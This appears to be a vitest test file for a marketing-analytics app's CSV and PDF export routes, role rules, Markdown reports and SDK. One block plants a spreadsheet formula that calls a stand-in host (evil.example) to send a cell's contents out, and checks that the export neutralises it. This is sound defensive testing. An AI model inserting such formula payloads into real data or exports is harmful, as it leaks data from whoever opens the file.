import { createClient, PermissionDeniedError } from '@retailmind/sdk';
import { parse } from 'csv-parse/sync';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { amount } from '../server/src/report/format.js';
import { startServer, type TestServer } from './helpers/server.js';

/**
 * `GET /api/export` and `GET /api/report` through a real server: CSVs parsed back with csv-parse
 * and compared with the JSON routes, PDFs read back with poppler's `pdftotext` (Debian
 * `poppler-utils`, installed by `.ci/run`), the role rules, and the SDK's methods.
 */

type Role = 'manager' | 'analyst' | 'leadership';
let server: TestServer;
let work: string;
const sampleCampaigns = parse(readFileSync('data/sample/campaigns.csv', 'utf8'), { columns: true }) as { campaign_id: string; campaign_name: string }[];

beforeAll(async () => {
  server = await startServer({ dataDir: 'data/sample' });
  work = mkdtempSync(join(tmpdir(), 'rm-export-'));
});
afterAll(async () => {
  await server?.close();
  rmSync(work, { recursive: true, force: true });
});

const get = (path: string, role: Role = 'manager') => fetch(server.url + path, { headers: server.auth(role) });
const json = async (path: string, role: Role = 'manager') => (await (await get(path, role)).json()) as any;
const csv = async (path: string, role: Role = 'manager') => {
  const res = await get(path, role);
  const bytes = new Uint8Array(await res.arrayBuffer());
  const rows = parse(Buffer.from(bytes), { columns: true, bom: true }) as Record<string, string>[];
  return { res, bytes, rows };
};
/** A CSV cell back to the number it was (empty = null). */
const num = (cell: string | undefined) => (cell === '' || cell === undefined ? null : Number(cell));

/**
 * The PDF's text as pdftotext reads it, whitespace collapsed and page footers taken out (a
 * paragraph may run across a page break). pdftotext joins a word that ends a line with a hyphen
 * to the next line's first word (dehyphenation), so hyphens are compared as spaces.
 */
function pdfText(bytes: ArrayBuffer, name: string): string {
  const file = join(work, name);
  writeFileSync(file, Buffer.from(bytes));
  const text = collapse(execFileSync('pdftotext', ['-enc', 'UTF-8', file, '-'], { encoding: 'utf8' }));
  return text.replace(/ ?RetailMind · [\d ]+ to [\d ]+ page \d+ of \d+ ?/g, ' ').trim();
}
const collapse = (s: string) => s.replace(/-/g, ' ').replace(/\s+/g, ' ').trim();

describe('CSV export', () => {
  it('answers UTF-8 CSV with a BOM, a header row and a file name with the period', async () => {
    const { res, bytes, rows } = await csv('/api/export?format=csv&view=channels&from=2026-10-01&to=2026-10-31');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="retailmind-channels-2026-10-01_2026-10-31.csv"');
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(Object.keys(rows[0]!)).toEqual(['channel', 'revenue', 'spend', 'roi', 'roas', 'conversion_rate', 'contribution_pct', 'budget_allocated', 'budget_utilization_pct']);
  });

  it('channels round-trip to exactly the dashboard summary\'s figures, numbers unformatted', async () => {
    const summary = await json('/api/dashboard-summary?from=2026-10-01&to=2026-10-31');
    const { rows } = await csv('/api/export?format=csv&view=channels&from=2026-10-01&to=2026-10-31');
    expect(rows.map((r) => r['channel'])).toEqual(summary.channels.map((c: any) => c.channel));
    rows.forEach((row, i) => {
      const c = summary.channels[i];
      expect([num(row['revenue']), num(row['spend']), num(row['roi']), num(row['roas']), num(row['conversion_rate'])]).toEqual([c.revenue, c.spend, c.roi, c.roas, c.conversionRate]);
      expect([num(row['contribution_pct']), num(row['budget_allocated']), num(row['budget_utilization_pct'])]).toEqual([c.contributionPct, c.budgetAllocated, c.budgetUtilizationPct]);
      expect(row['revenue']).toMatch(/^\d+(\.\d+)?$/); // no thousands separators, no currency
    });
  });

  it('campaigns add up to the summary totals, and their ratios follow from their own sums', async () => {
    const summary = await json('/api/dashboard-summary?from=2026-10-01&to=2026-10-31');
    const { res, rows } = await csv('/api/export?format=csv&from=2026-10-01&to=2026-10-31');
    expect(res.headers.get('content-disposition')).toContain('retailmind-campaigns-2026-10-01_2026-10-31.csv');
    expect(rows).toHaveLength(sampleCampaigns.length);
    const sum = (key: string) => rows.reduce((n, r) => n + Number(r[key]), 0);
    expect(sum('revenue')).toBeCloseTo(summary.totals.revenue, 6);
    expect(sum('spend')).toBeCloseTo(summary.totals.spend, 6);
    expect(sum('clicks')).toBe(summary.totals.clicks);
    for (const r of rows) {
      expect(num(r['roi'])).toBeCloseTo((Number(r['revenue']) - Number(r['spend'])) / Number(r['spend']), 12);
      expect(r['campaign_name']).toBe(sampleCampaigns.find((c) => c.campaign_id === r['campaign_id'])!.campaign_name);
    }
  });

  it('anomalies and recommendations round-trip to the engine\'s answers', async () => {
    const anomalies = (await json('/api/anomalies?from=2026-10-01&to=2026-10-31')).anomalies;
    const a = await csv('/api/export?format=csv&view=anomalies&from=2026-10-01&to=2026-10-31');
    expect(a.rows.map((r) => r['id'])).toEqual(anomalies.map((x: any) => x.id));
    a.rows.forEach((r, i) => {
      const x = anomalies[i];
      expect([num(r['value']), num(r['expected']), num(r['score']), num(r['z_score']), num(r['forest_score'])]).toEqual([x.value, x.expected, x.score, x.zScore, x.forestScore]);
      expect([r['campaign_name'], r['metric'], r['severity'], r['explanation']]).toEqual([x.campaignName, x.metric, x.severity, x.explanation]);
    });
    const recommendations = (await json('/api/recommendations?from=2026-10-01&to=2026-10-31')).recommendations;
    const r = await csv('/api/export?format=csv&view=recommendations&from=2026-10-01&to=2026-10-31');
    expect(r.rows).toHaveLength(recommendations.length);
    r.rows.forEach((row, i) => {
      const x = recommendations[i];
      expect([row['id'], row['action'], num(row['confidence']), num(row['spend_delta']), num(row['revenue_delta']), num(row['expected_value'])]).toEqual([
        x.id, x.action, x.confidence, x.expectedImpact.spendDelta, x.expectedImpact.revenueDelta, x.expectedValue,
      ]);
      expect(row['reason']).toBe(x.reason);
    });
  });

  it('the report view flattens the report: its figures, narrative and recommendations', async () => {
    const report = await json('/api/report?from=2026-10-01&to=2026-10-31');
    const { rows } = await csv('/api/export?format=csv&view=report&from=2026-10-01&to=2026-10-31');
    const kpi = (metric: string) => num(rows.find((r) => r['section'] === 'kpi' && r['metric'] === metric)?.['value']);
    expect(kpi('revenue')).toBe(report.facts.totals.revenue);
    expect(kpi('roi')).toBe(report.facts.totals.roi);
    expect(rows.filter((r) => r['section'] === 'narrative').map((r) => r['text']).join('\n\n')).toBe(report.narrative);
    expect(rows.filter((r) => r['section'] === 'recommendation').map((r) => r['text'])).toEqual(report.recommendations);
    const suggested = (name: string, metric: string) => num(rows.find((r) => r['section'] === 'budget suggestion' && r['name'] === name && r['metric'] === metric)?.['value']);
    expect(suggested('total', 'upliftPct')).toBe(report.facts.budgetSuggestion.upliftPct);
    for (const c of report.facts.budgetSuggestion.channels) expect(suggested(c.channel, 'suggestedSpend')).toBe(c.suggestedSpend);
  });
});

describe('CSV export neutralises formulas planted in the data', () => {
  let tiny: TestServer;
  const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click me")';
  beforeAll(async () => {
    tiny = await startServer({ dataDir: 'tests/fixtures/tiny' });
    const post = (kind: string, body: string) =>
      fetch(`${tiny.url}/api/ingest/${kind}`, { method: 'POST', headers: { ...tiny.auth('manager'), 'content-type': 'text/csv' }, body });
    const quoted = `"${FORMULA.replace(/"/g, '""')}"`;
    expect((await post('campaigns', `campaign_id,campaign_name,channel,segment,start_date,end_date\nX1,${quoted},@Search,-New,2026-03-01,\n`)).status).toBe(200);
    expect((await post('campaign_daily', 'date,campaign_id,impressions,clicks,spend\n2026-03-02,X1,1000,50,25.5\n')).status).toBe(200);
  });
  afterAll(() => tiny?.close());

  it('prefixes the cells with a quote, keeps the text otherwise, and leaves negative numbers alone', async () => {
    const res = await fetch(`${tiny.url}/api/export?format=csv&view=campaigns&from=2026-03-01&to=2026-03-31`, { headers: tiny.auth('analyst') });
    expect(res.status).toBe(200);
    const rows = parse(await res.text(), { columns: true, bom: true }) as Record<string, string>[];
    const planted = rows.find((r) => r['campaign_id'] === 'X1')!;
    expect(planted['campaign_name']).toBe(`'${FORMULA}`);
    expect(planted['channel']).toBe("'@Search");
    expect(planted['segment']).toBe("'-New");
    expect(planted['spend']).toBe('25.5');
    expect(planted['roi']).toBe('-1'); // a number, not neutralised
  });
});

describe('PDF export', () => {
  it.each([
    ['a4', '595.28 x 841.89'],
    ['letter', '612 x 792'],
  ])('on %s: title, period, KPI figures, the chart\'s channels, the narrative and the recommendations', async (paper, size) => {
    const report = await json('/api/report?from=2026-10-01&to=2026-10-31');
    const res = await get(`/api/export?format=pdf&paper=${paper}&from=2026-10-01&to=2026-10-31`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/pdf');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="retailmind-report-2026-10-01_2026-10-31.pdf"');
    const bytes = await res.arrayBuffer();
    expect(Buffer.from(bytes.slice(0, 5)).toString()).toBe('%PDF-');
    const file = join(work, `report-${paper}.pdf`);
    writeFileSync(file, Buffer.from(bytes));
    expect(execFileSync('pdfinfo', [file], { encoding: 'utf8' })).toContain(`Page size:       ${size} pts`);

    const text = pdfText(bytes, `read-${paper}.pdf`);
    const t = report.facts.totals;
    expect(text).toContain(collapse(report.title));
    expect(text).toContain(collapse('Period: 2026-10-01 to 2026-10-31'));
    expect(text).toContain('Key figures');
    for (const figure of [amount(t.revenue), amount(t.spend), amount(t.previousRevenue), t.roi.toFixed(2), t.roas.toFixed(2), `${(100 * t.conversionRate).toFixed(2)}%`])
      expect(text).toContain(collapse(figure));
    expect(text).toContain('Revenue and spend by channel');
    for (const c of report.facts.channels) {
      expect(text).toContain(collapse(c.channel));
      expect(text).toContain(amount(c.revenue));
    }
    for (const paragraph of report.narrative.split('\n\n')) expect(text).toContain(collapse(paragraph));
    for (const recommendation of report.recommendations) expect(text).toContain(collapse(recommendation));

    // The budget optimizer's suggestion, as a table: every channel's current and suggested spend.
    const s = report.facts.budgetSuggestion;
    expect(text).toContain(collapse(`Budget optimizer's suggestion: the same ${amount(s.totalBudget)}, split anew`));
    expect(text).toContain('Channel Current spend Suggested spend Change Change % Note');
    for (const c of s.channels) {
      expect(text).toContain(`${collapse(c.channel)} ${amount(c.currentSpend)} ${amount(c.suggestedSpend)}`);
    }
    expect(text).toContain(`${amount(s.suggestedRevenue)} with the suggestion (range ${amount(s.suggestedRevenueLow)} to ${amount(s.suggestedRevenueHigh)})`);
  });

  it('adds the view\'s table after the report, and the executive version names no campaign', async () => {
    const withTable = pdfText(await (await get('/api/export?format=pdf&view=recommendations&from=2026-10-01&to=2026-10-31')).arrayBuffer(), 'recs.pdf');
    const recommendations = (await json('/api/recommendations?from=2026-10-01&to=2026-10-31')).recommendations;
    expect(withTable).toContain('Recommendations Action Priority Campaign Channel Conf. Spend +/ Revenue +/ Value');
    for (const r of recommendations) expect(withTable).toContain(amount(r.expectedValue));
    const executive = pdfText(await (await get('/api/export?format=pdf&audience=leadership&from=2026-10-01&to=2026-10-31')).arrayBuffer(), 'exec.pdf');
    expect(executive).toContain(collapse('Executive summary: 2026-10-01 to 2026-10-31'));
    for (const c of sampleCampaigns) expect(executive).not.toContain(collapse(c.campaign_name));
  });
});

describe('roles', () => {
  it('refuses every export to leadership, and allows it to manager and analyst', async () => {
    for (const path of ['/api/export', '/api/export?format=pdf', '/api/export?format=csv&view=channels']) {
      const res = await get(path, 'leadership');
      expect(res.status).toBe(403);
      expect(((await res.json()) as any).error.code).toBe('forbidden');
    }
    expect((await get('/api/export?format=csv&view=channels', 'analyst')).status).toBe(200);
  });

  it('gives leadership the executive report, without a campaign name, id or campaign-level fact', async () => {
    const res = await get('/api/report', 'leadership');
    expect(res.status).toBe(200);
    const text = await res.text();
    const body = JSON.parse(text);
    expect(body.audience).toBe('leadership');
    expect(body.title).toMatch(/^Executive summary/);
    for (const c of sampleCampaigns) {
      expect(text).not.toContain(c.campaign_name);
      expect(text).not.toContain(`"${c.campaign_id}"`);
    }
    const markdown = await (await get('/api/report?format=markdown', 'leadership')).text();
    for (const c of sampleCampaigns) expect(markdown).not.toContain(c.campaign_name);
  });

  it('refuses leadership another audience\'s report; a manager may read the executive one', async () => {
    const refused = await get('/api/report?audience=manager', 'leadership');
    expect(refused.status).toBe(403);
    expect(((await refused.json()) as any).error.details.field).toBe('audience');
    const forwarded = await json('/api/report?audience=leadership', 'manager');
    expect(forwarded.audience).toBe('leadership');
    expect(forwarded.narrative).toBe((await json('/api/report', 'leadership')).narrative);
    expect((await json('/api/report', 'analyst')).audience).toBe('analyst');
  });

  it.each([
    ['/api/export?format=xls', 'format'],
    ['/api/export?view=everything', 'view'],
    ['/api/export?format=pdf&paper=a3', 'paper'],
    ['/api/report?audience=ceo', 'audience'],
    ['/api/export?format=pdf&view=campaigns&audience=leadership', 'view'],
    ['/api/export?format=csv&view=anomalies&audience=leadership', 'view'],
    ['/api/report?format=html', 'format'],
    ['/api/report?from=2026-10-05&to=2026-10-01', 'from'],
  ])('%s is a 400 naming %s', async (path, field) => {
    const res = await get(path);
    expect(res.status).toBe(400);
    expect(((await res.json()) as any).error.details.fields[0].field).toBe(field);
  });
});

describe('report as Markdown, the SDK and the OpenAPI document', () => {
  it('answers text/markdown', async () => {
    const res = await get('/api/report?format=markdown&from=2026-10-01&to=2026-10-31');
    expect(res.headers.get('content-type')).toBe('text/markdown; charset=utf-8');
    const md = await res.text();
    expect(md).toMatch(/^# Marketing performance: 2026-10-01 to 2026-10-31\n/);
    expect(md).toContain('## Recommendations');
    expect(md).toContain("## Budget optimizer's suggestion: the same ");
    expect(md).toContain('| Channel | Current spend | Suggested spend | Change | Change % | Note |');
  });

  it('client.report and client.export', async () => {
    const client = createClient({ baseUrl: server.url, token: server.token('manager'), maxRetries: 0 });
    const report = await client.report({ from: '2026-10-01', to: '2026-10-31' });
    expect(report.generatedBy).toBe('offline');
    const md = await client.report({ from: '2026-10-01', to: '2026-10-31', format: 'markdown' });
    expect(md.startsWith(`# ${report.title}`)).toBe(true);
    const file = await client.export({ format: 'csv', view: 'channels', from: '2026-10-01', to: '2026-10-31' });
    expect(file.name).toBe('retailmind-channels-2026-10-01_2026-10-31.csv');
    expect(file.type).toBe('text/csv; charset=utf-8');
    const rows = parse(Buffer.from(await file.arrayBuffer()), { columns: true, bom: true }) as Record<string, string>[];
    expect(rows.length).toBe(report.facts.channels.length);
    const pdf = await client.export({ format: 'pdf', paper: 'letter' });
    expect(pdf.type).toBe('application/pdf');
    const leadership = createClient({ baseUrl: server.url, token: server.token('leadership'), maxRetries: 0 });
    await expect(leadership.export({ format: 'csv' })).rejects.toBeInstanceOf(PermissionDeniedError);
    expect((await leadership.report()).audience).toBe('leadership');
  });

  it('documents both routes, with their media types', async () => {
    const doc = await json('/api/openapi.json');
    expect(Object.keys(doc.paths['/api/report'].get.responses[200].content)).toEqual(['application/json', 'text/markdown']);
    expect(Object.keys(doc.paths['/api/export'].get.responses[200].content)).toEqual(['text/csv', 'application/pdf']);
    expect(doc.paths['/api/export'].get['x-roles']).toEqual(['manager', 'analyst']);
    expect(doc.paths['/api/export'].get.parameters.map((p: any) => p.name)).toEqual(['from', 'to', 'format', 'view', 'paper', 'audience']);
  });
});
